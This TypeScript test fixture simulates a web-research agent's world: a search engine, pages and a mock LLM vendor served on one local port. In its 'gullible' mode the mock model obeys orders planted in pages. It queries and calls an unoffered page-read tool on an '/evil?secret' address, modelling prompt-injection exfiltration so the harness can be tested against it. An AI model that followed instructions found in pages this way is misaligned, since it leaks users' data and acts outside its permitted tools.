// A search engine, its pages and a vendor on one port. The vendor's model does as scripted, or follows orders of pages.
import { createServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { order, questions } from './questions.ts';
import type { HiddenQuestion } from './questions.ts';

export type Call = 'plan' | 'read' | 'gaps' | 'report';

export interface ResearchWorld {
  readonly origin: string;
  /** Calls of the model, with what it was sent. */
  readonly calls: { readonly call: Call; readonly id: string; readonly prompt: string; readonly tools: unknown }[];
  /** Addresses that were requested, but for those of the vendor. */
  readonly visits: string[];
  /** Holds back calls of this kind until `release`. */
  hold(call: Call): void;
  release(): void;
  /** Tokens of each reply. */
  tokens: number;
  /** `gullible`: does what pages say. `plain`: replies with prose instead of JSON. */
  mind: 'scripted' | 'gullible' | 'plain';
  close(): Promise<void>;
}

export async function startResearchWorld(): Promise<ResearchWorld> {
  const waiting: (() => void)[] = [];
  const held = new Set<Call>();
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (part) => (body += String(part)));
    request.on('end', () => serve(request, response, body));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const world: ResearchWorld = {
    origin,
    calls: [],
    visits: [],
    tokens: 1000,
    mind: 'scripted',
    hold: (call) => void held.add(call),
    release() {
      held.clear();
      for (const answer of waiting.splice(0)) answer();
    },
    close: () =>
      new Promise((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };

  function serve({ url = '' }: IncomingMessage, response: ServerResponse, body: string): void {
    if (url.startsWith('/v1/')) return model(response, body);
    world.visits.push(url);
    if (url.startsWith('/search?')) return search(response, new URL(url, origin).searchParams.get('q') ?? '');
    page(response, url.replace('/pages/', ''));
  }

  function search(response: ServerResponse, query: string): void {
    const asked = questions.find(({ id }) => query.includes(id));
    const more = query.includes('more');
    const results = (asked?.pages ?? [])
      .filter(({ later = false }) => later === more)
      .map(({ path, title }) => ({ title, url: `${origin}/pages/${path}`, content: 'A result.' }));
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ query, results }));
  }

  function page(response: ServerResponse, path: string): void {
    const found = questions.flatMap(({ pages }) => pages).find((each) => each.path === path);
    if (!found) return void response.writeHead(404).end('nothing');
    const { status = 200, type = 'text/html; charset=utf-8', text } = found;
    const location = status === 302 ? { location: text } : {};
    response
      .writeHead(status, { 'content-type': type, ...location })
      .end(text.replaceAll('{evil}', `${origin}/evil?secret`));
  }

  function model(response: ServerResponse, body: string): void {
    const { messages = [], tools } = JSON.parse(body) as {
      readonly messages?: readonly { readonly content: string }[];
      readonly tools?: unknown;
    };
    const prompt = messages.map(({ content }) => content).join('\n');
    const asked = questions.find(({ question }) => prompt.includes(question));
    const call = callOf(prompt);
    if (!asked || !call) return void response.writeHead(400).end('{"error":{"message":"not a research"}}');
    world.calls.push({ call, id: asked.id, prompt, tools });
    const answer = (): void => reply(response, world, textOf(call, asked, prompt));
    if (held.has(call)) waiting.push(answer);
    else answer();
  }

  function textOf(call: Call, asked: HiddenQuestion, prompt: string): string {
    const { id, report } = asked;
    if (world.mind === 'plain' && call !== 'report') return `I would look at ${id}, and then {see}.`;
    const obeys = world.mind === 'gullible' && prompt.includes(order);
    switch (call) {
      case 'plan':
        return `Sure!\n\`\`\`json\n${JSON.stringify({ queries: [`${id} first`, `${id} second`] })}\n\`\`\``;
      case 'gaps':
        return JSON.stringify({ queries: obeys ? [`${origin}/evil?secret ${id}`, `${id} more`] : [`${id} more`] });
      case 'read':
        return JSON.stringify({
          quotes: [{ quote: 'This passage is on no page at all.', says: 'Nothing.' }, ...quotesIn(asked, prompt)],
        });
      case 'report':
        return report
          .map(({ text }) => text.replaceAll('{evil}', `${origin}/evil?secret`))
          .map((line) => line.replaceAll(/\{([^}]*)\}/g, (_all, path: string) => `[${numberOf(prompt, path)}]`))
          .join('\n');
      default:
        return call satisfies never;
    }
  }

  const numberOf = (prompt: string, path: string): string =>
    new RegExp(`\\[(\\d+)\\] [^\\n]*\\(${origin}/pages/${path}[,)]`).exec(prompt)?.[1] ?? '42';

  return world;
}

const callOf = (prompt: string): Call | undefined =>
  prompt.startsWith('You plan research')
    ? 'plan'
    : prompt.startsWith('You collect evidence')
      ? 'read'
      : prompt.startsWith('You check whether')
        ? 'gaps'
        : prompt.startsWith('You write the report')
          ? 'report'
          : undefined;

/** Sentences of the page that are about the question; the German question gets a translation. */
function quotesIn({ id, question }: HiddenQuestion, prompt: string): readonly object[] {
  const page = /<page-\w+>\n([\s\S]*)\n<\/page-/.exec(prompt)?.[1] ?? '';
  const name = /(?:of|von) (\p{Lu}\p{L}+)/u.exec(question)?.[1] ?? question.slice(0, 4);
  return page
    .split('\n')
    .filter((line) => line.includes(name) || /tunnel|Forest|warden|建于/.test(line))
    .map((quote) => ({
      quote: quote.slice(0, 400),
      says: id === 'Q05' ? 'Das Museum von Aalborg hat 112 Zimmer.' : '',
    }));
}

const sse = (value: unknown): string => `data: ${JSON.stringify(value)}\n\n`;

/** In pieces that cut words and citations. A gullible model also calls a tool that it was not offered. */
function reply(response: ServerResponse, { mind, tokens, origin }: ResearchWorld, text: string): void {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const chunk = (delta: object, finish: string | null = null): void =>
    void response.write(
      sse({ id: 'c', object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] }),
    );
  for (let at = 0; at < text.length; at += 7) chunk({ content: text.slice(at, at + 7) });
  if (mind === 'gullible') {
    const args = JSON.stringify({ url: `${origin}/evil?secret` });
    chunk({
      tool_calls: [{ index: 0, id: 'x', type: 'function', function: { name: 'web-page____read', arguments: args } }],
    });
  }
  chunk({}, 'stop');
  response.write(
    sse({ id: 'c', choices: [], usage: { prompt_tokens: tokens, completion_tokens: 0, total_tokens: tokens } }),
  );
  response.end('data: [DONE]\n\n');
}
